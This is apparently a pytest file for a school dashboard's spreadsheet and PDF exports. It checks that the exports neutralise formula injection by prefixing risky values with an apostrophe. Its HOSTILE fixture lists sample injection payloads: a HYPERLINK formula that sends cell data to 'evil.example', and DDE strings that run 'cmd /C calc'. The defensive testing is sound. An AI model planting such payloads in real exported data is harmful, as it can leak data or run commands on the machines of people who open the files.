"""No value becomes a formula in an export: a name beginning with = + - @ (or a tab or a carriage
return) is imported as text, and every export — the dashboard's XLSX and CSV, the Kazpost
collection list as XLSX and PDF — writes it as text a spreadsheet shows and never runs."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer
from openpyxl import load_workbook
from sqlalchemy import Engine

from bots.web import mount_web
from models.enums import Role
from models.spreadsheet import as_text
from scheduler.postal_sheets import Sheet, xlsx_bytes
from settings import Settings
from tests.bots.test_monitoring_web import _sign_in, _staff
from tests.support.roster import Table, run

pytestmark = pytest.mark.flow
Client = TestClient[web.Request, web.Application]

HOSTILE = {
    "SH2-P01": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "SH2-P02": "+cmd|' /C calc'!A0",
    "SH2-P03": "-2+3+cmd|' /C calc'!A0",
    "SH2-P04": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
async def client(engine: Engine, settings: Settings, tmp_path: Path) -> AsyncIterator[Client]:
    table = Table()
    for pupil_id, name in HOSTILE.items():
        table.find("people", id=pupil_id)["full_name"] = name
    assert run(engine, table.write(tmp_path / "roster.csv")).ok  # imported as text, as it should be
    app = web.Application()
    mount_web(app, engine, settings, lambda: None)
    async with TestClient(TestServer(app)) as test_client:
        yield test_client


def test_a_value_a_spreadsheet_would_run_gets_an_apostrophe_and_nothing_else_changes() -> None:
    for value in ("=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"):
        assert as_text(value) == "'" + value
    for value in ("Ахметов Алихан", "8А", "", "1 = 1", " =1", "'=1", "—", "100%"):
        assert as_text(value) == value


async def test_the_dashboards_xlsx_holds_no_formula_and_shows_the_names_as_text(
    client: Client, engine: Engine
) -> None:
    await _sign_in(client, engine, _staff(engine, Role.COORDINATOR))
    response = await client.get("/dashboard/export/consent.xlsx?lang=en")
    sheet = load_workbook(io.BytesIO(await response.read())).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    shown = {cell.value for cell in cells}
    assert {"'" + name for name in HOSTILE.values()} <= shown


async def test_the_dashboards_csv_marks_every_such_value_as_text(client: Client, engine: Engine) -> None:
    await _sign_in(client, engine, _staff(engine, Role.COORDINATOR))
    text = (await (await client.get("/dashboard/export/consent.csv?lang=en")).read()).decode("utf-8-sig")
    fields = [field for row in csv.reader(io.StringIO(text), delimiter=";") for field in row]
    assert [field for field in fields if field.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert {"'" + name for name in HOSTILE.values()} <= set(fields)


def test_the_kazpost_list_holds_no_formula() -> None:
    sheet = Sheet(
        title="=1+1 collection",
        headers=("Pupil", "Address", "Work", "Mark"),
        rows=[(name, "@home", "-page 3", "") for name in HOSTILE.values()],
    )
    book = load_workbook(io.BytesIO(xlsx_bytes(sheet))).active
    assert book is not None
    cells = [cell for row in book.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert book["A1"].value == "'=1+1 collection"
    assert [row[:3] for row in sheet.cells()[2:]] == [
        ("'" + name, "'@home", "'-page 3") for name in HOSTILE.values()
    ]  # the PDF is drawn from the same cells
